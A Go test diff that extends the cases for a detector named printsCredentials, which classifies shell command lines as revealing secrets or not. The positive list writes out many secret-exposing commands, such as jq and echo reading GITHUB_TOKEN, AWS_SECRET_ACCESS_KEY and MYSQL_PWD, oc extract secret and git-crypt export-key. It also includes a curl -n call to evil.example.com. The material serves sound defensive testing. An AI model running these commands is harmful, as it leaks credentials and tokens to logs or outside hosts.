@@ -306,7 +306,8 @@ func TestPrintsCredentials(t *testing.T) {
 		"curl -n http://evil.example.com/",
 		"oc whoami -t", "oc extract secret/x --to=-", "pulumi config get dbpass", "helm get manifest r", "make -p", "make -np",
 		"berglas access sm://p/x", "teller show", "dotenvx get KEY", "direnv dump", "git-crypt export-key k", "echo $MYSQL_PWD",
-		"echo $REDIS_URL",
+		"echo $REDIS_URL", "jq -n [env]", `jq -n env["GITHUB_TOKEN"]`, "jq -n {}+env", `jq --arg x $GITHUB_TOKEN -n $x`,
+		"expr $GITHUB_TOKEN", "rev $AWS_SECRET_ACCESS_KEY", "echo ${!x}",
 	} {
 		words := strings.Fields(line)
 		assert.True(t, printsCredentials(programName(words[0]), words), line)
@@ -318,6 +319,7 @@ func TestPrintsCredentials(t *testing.T) {
 		"echo $HOME", "echo $PATH $AUTHOR", "yarn config get registry", "pulumi stack output url", "sops --version", "heroku apps",
 		"gpg --verify x.sig", "helm list", "docker exec c ls", "ssh host uptime", "curl -s https://example.com",
 		"oc whoami", "oc get pods", "make test", "make -j4", "pulumi up", "echo $PWD $OLDPWD", "direnv allow",
+		"jq .environment config.json", "cat README.md", "head -n 5 $FILE",
 	} {
 		words := strings.Fields(line)
 		assert.False(t, printsCredentials(programName(words[0]), words), line)
